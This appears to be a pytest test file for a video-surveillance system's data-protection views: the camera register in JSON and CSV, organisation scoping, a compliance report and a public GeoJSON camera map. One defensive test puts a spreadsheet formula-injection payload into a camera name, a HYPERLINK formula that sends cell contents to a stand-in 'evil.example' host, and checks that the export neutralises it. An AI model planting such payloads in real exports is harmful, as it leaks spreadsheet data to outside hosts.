"""The DPO views: the register (JSON and CSV), the compliance report and the transparency map."""

from __future__ import annotations

import csv
import datetime as dt
import io

from fastapi.testclient import TestClient
from sqlalchemy import select
from sqlalchemy.orm import Session

from registry.schemas import RegisterEntry
from tests.factories import Factory
from vms.core.db import utcnow
from vms.core.models import AuditEntry

MASK = {"default": "anonymise"}
DAY = dt.timedelta(days=1)


def test_register_keeps_decommissioned_cameras_five_years(
    client: TestClient, factory: Factory, session: Session
) -> None:
    org = factory.org("Brf Eken")
    dpo = factory.user("dpo", org)
    site = factory.site(org, name="Hus A")
    basis = factory.basis(org, kind="permit", case_number="DI-2023-77")
    now = utcnow()
    active = factory.camera(
        org,
        basis=basis,
        site=site,
        schedule=[
            {"days": ["mon", "tue", "wed", "thu", "fri", "sun"], "start": "07:00", "end": "18:00"}
        ],
        retention_hours=200,
    )
    paused = factory.camera(org, status="paused", mode="live")
    recent = factory.camera(org, status="decommissioned", decommissioned_at=now - 4 * 365 * DAY)
    factory.camera(org, status="decommissioned", decommissioned_at=now - 6 * 365 * DAY)
    factory.camera(factory.org())  # another organisation

    r = client.get("/api/v1/register", headers=dpo.headers)
    assert r.status_code == 200
    report = r.json()
    assert report["organisation_ids"] == [org.id]
    entries = {e["camera_id"]: e for e in report["entries"]}
    assert set(entries) == {active.id, paused.id, recent.id}
    e = entries[active.id]
    assert e["controller"] == "Brf Eken"
    assert e["site"] == "Hus A"
    assert e["legal_basis_kind"] == "permit"
    assert e["legal_basis_reference"] == "DI-2023-77"
    assert e["retention_hours"] == 72  # what is actually kept
    assert e["requested_retention_hours"] == 200
    assert e["active_hours"] == "mon-fri,sun 07:00-18:00"
    assert e["recipients"].startswith("authorised staff of the controller; the Police Authority")
    assert e["third_country_transfers"] == "none"
    assert e["permit_status"] == "conflict"
    assert entries[paused.id]["personal_data_categories"] == (
        "live video images of people and vehicles (not stored)"
    )
    assert entries[paused.id]["retention_hours"] == 0
    assert recent.decommissioned_at is not None
    assert entries[recent.id]["keep_until"] == (
        recent.decommissioned_at.date().replace(year=recent.decommissioned_at.year + 5).isoformat()
    )
    export = session.scalars(
        select(AuditEntry).where(
            AuditEntry.action == "register.export", AuditEntry.actor_id == dpo.user.id
        )
    ).one()
    assert export.details == {"format": "json", "entries": 3}


def test_register_csv(client: TestClient, factory: Factory) -> None:
    org = factory.org("Fastighets AB Åkern")
    fm = factory.user("facility_manager", org)
    factory.camera(org, name="Entré, norr", purpose='Skydd mot "klotter"')
    factory.camera(org, basis=None)
    r = client.get("/api/v1/register", headers=fm.headers, params={"format": "csv"})
    assert r.status_code == 200
    assert r.headers["content-type"] == "text/csv; charset=utf-8"
    assert r.headers["content-disposition"].startswith('attachment; filename="register-')
    text = r.content.decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert list(rows[0]) == list(RegisterEntry.model_fields)
    assert len(rows) == 2
    assert rows[0]["camera_name"] == "Entré, norr"
    assert rows[0]["purpose"] == 'Skydd mot "klotter"'
    assert rows[0]["controller"] == "Fastighets AB Åkern"
    assert rows[0]["signage_posted"] == "true"
    assert rows[1]["legal_basis_id"] == ""
    assert rows[1]["permit_status"] == "missing"


def test_register_csv_cells_cannot_run_as_formulas(client: TestClient, factory: Factory) -> None:
    """A camera named like a formula must reach the DPO's spreadsheet as text; numbers stay
    numbers (a west longitude is negative)."""
    org = factory.org("Brf =Ek")
    dpo = factory.user("dpo", org)
    factory.camera(
        org,
        name='=HYPERLINK("http://evil.example/?"&A1,"open")',
        purpose="+46 stands for Sweden",
        address="@SUM(1+1)",
        signage_text="\tcmd",
        owner_contact_name="-2+3",
        lat=57.7,
        lon=-3.25,
    )
    r = client.get("/api/v1/register", headers=dpo.headers, params={"format": "csv"})
    assert r.status_code == 200, r.text
    [row] = list(csv.DictReader(io.StringIO(r.content.decode("utf-8-sig"))))
    assert row["camera_name"] == '\'=HYPERLINK("http://evil.example/?"&A1,"open")'
    assert row["purpose"] == "'+46 stands for Sweden"
    assert row["address"] == "'@SUM(1+1)"
    assert row["signage_text"] == "'\tcmd"
    assert row["contact_name"] == "'-2+3"
    assert row["controller"] == "Brf =Ek"
    assert row["lon"] == "-3.25"


def test_register_scoping(client: TestClient, factory: Factory) -> None:
    home, assigned, other = factory.org(), factory.org(), factory.org()
    for org in (home, assigned, other):
        factory.camera(org)
    dpo = factory.user("dpo", home, dpo_orgs=[assigned])
    r = client.get("/api/v1/register", headers=dpo.headers)
    assert {e["organisation_id"] for e in r.json()["entries"]} == {home.id, assigned.id}
    r = client.get("/api/v1/register", headers=dpo.headers, params={"organisation_id": assigned.id})
    assert {e["organisation_id"] for e in r.json()["entries"]} == {assigned.id}
    r = client.get("/api/v1/register", headers=dpo.headers, params={"organisation_id": other.id})
    assert r.status_code == 404
    operator = factory.user("operator", home)
    assert client.get("/api/v1/register", headers=operator.headers).status_code == 403
    r = client.get("/api/v1/register", headers=dpo.headers, params={"format": "xml"})
    assert r.status_code == 422


def test_compliance_report(client: TestClient, factory: Factory) -> None:
    org = factory.org()
    dpo = factory.user("dpo", org)
    now = utcnow()
    clean = factory.camera(org, mask_plan=MASK)
    cases = {
        "basis_missing": factory.camera(org, basis=None, mask_plan=MASK, retention_hours=24),
        "basis_draft": factory.camera(
            org, basis=factory.basis(org, status="draft"), mask_plan=MASK
        ),
        "basis_expired": factory.camera(
            org, basis=factory.basis(org, kind="permit", valid_until=now - DAY), mask_plan=MASK
        ),
        "basis_revoked": factory.camera(
            org, basis=factory.basis(org, status="revoked"), mask_plan=MASK
        ),
        "basis_expiring": factory.camera(
            org, basis=factory.basis(org, review_by=(now + 10 * DAY).date()), mask_plan=MASK
        ),
        "live_only_recording": factory.camera(
            org,
            basis=factory.basis(org, recording_allowed=False),
            mask_plan=MASK,
            status="paused",
        ),
        "live_view_not_allowed": factory.camera(
            org,
            basis=factory.basis(org, live_view_allowed=False),
            mask_plan=MASK,
            status="paused",
        ),
        "retention_exceeds_basis": factory.camera(
            org, retention_hours=100, mask_plan=MASK, status="paused"
        ),
        "retention_unjustified": factory.camera(
            org,
            basis=factory.basis(org, max_retention_hours=168),
            retention_hours=168,
            mask_plan=MASK,
        ),
        "no_signage": factory.camera(org, signage_posted=False, mask_plan=MASK),
        "no_mask_plan": factory.camera(org),
    }
    justified = factory.camera(
        org,
        basis=factory.basis(org, max_retention_hours=168, retention_justification="Sent upptäckt"),
        retention_hours=168,
        mask_plan=MASK,
    )
    no_masking_needed = factory.camera(org, basis=factory.basis(org, masking_required=False))
    factory.camera(org, basis=None, status="decommissioned", signage_posted=False)

    r = client.get("/api/v1/compliance", headers=dpo.headers)
    assert r.status_code == 200
    report = r.json()
    assert report["cameras_checked"] == len(cases) + 3
    found: dict[int, list[str]] = {}
    for item in report["items"]:
        found.setdefault(item["camera_id"], []).append(item["code"])
    for code, camera in cases.items():
        assert found.get(camera.id) == [code], (code, found.get(camera.id))
    for camera in (clean, justified, no_masking_needed):
        assert camera.id not in found
    assert report["counts"] == dict.fromkeys(sorted(cases), 1)
    messages = {i["code"]: i["msg"] for i in report["items"]}
    expiring = cases["basis_expiring"]
    assert messages["basis_expiring"] == (
        f"legal basis {expiring.legal_basis_id} must be renewed or reviewed by "
        f"{(now + 10 * DAY).date().isoformat()}"
    )
    assert messages["retention_unjustified"] == (
        "keeps footage 168 hours, more than 72, without a documented retention justification"
    )


def test_geojson(client: TestClient, factory: Factory) -> None:
    home, other = factory.org("Kommunen"), factory.org()
    located = factory.camera(
        home,
        source={"kind": "rtsp", "url": "rtsp://user:pw@10.9.9.9/stream"},
        owner_contact_name="Privat Person",
        lat=57.7,
        lon=11.97,
        direction_deg=180.0,
    )
    factory.camera(home, lat=None, lon=None)
    factory.camera(home, status="decommissioned")
    elsewhere = factory.camera(other)
    operator = factory.user("operator", home)
    r = client.get("/api/v1/cameras.geojson", headers=operator.headers)
    assert r.status_code == 200
    assert r.headers["content-type"] == "application/geo+json"
    data = r.json()
    assert data["type"] == "FeatureCollection"
    assert [f["properties"]["id"] for f in data["features"]] == [located.id]
    feature = data["features"][0]
    assert feature["geometry"] == {"type": "Point", "coordinates": [11.97, 57.7]}
    props = feature["properties"]
    assert props["owner"] == "Kommunen"
    assert props["retention_hours"] == 72
    assert props["mode"] == "live_and_recording"
    for hidden in ("rtsp", "10.9.9.9", "Privat Person", "source", "password"):
        assert hidden not in r.text
    police = factory.user("police")
    ids = {
        f["properties"]["id"]
        for f in client.get("/api/v1/cameras.geojson", headers=police.headers).json()["features"]
    }
    assert {located.id, elsewhere.id} <= ids
    assert client.get("/api/v1/cameras.geojson").status_code == 401
